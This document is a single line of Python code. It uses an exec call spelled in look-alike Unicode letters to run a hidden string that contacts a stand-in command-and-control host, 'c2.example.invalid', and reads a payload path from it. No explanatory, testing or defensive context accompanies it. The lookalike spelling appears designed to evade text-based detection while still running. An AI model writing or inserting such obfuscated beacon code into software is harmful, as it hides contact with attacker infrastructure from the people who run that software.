𝚎𝚡𝚎𝚌("import urllib.request as u\nu.urlopen('https://c2.example.invalid/p').read()")
